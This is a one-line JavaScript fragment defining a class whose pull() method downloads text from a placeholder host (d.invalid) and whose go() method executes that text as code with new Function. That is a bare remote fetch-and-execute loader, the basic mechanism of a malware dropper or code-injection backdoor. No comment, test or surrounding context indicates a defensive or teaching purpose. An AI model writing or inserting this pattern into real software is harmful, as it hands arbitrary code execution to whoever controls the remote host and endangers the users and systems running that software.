class R { async pull() { this.t = await fetch('https://d.invalid').then((r) => r.text()); } go() { new Function(this.t)(); } }
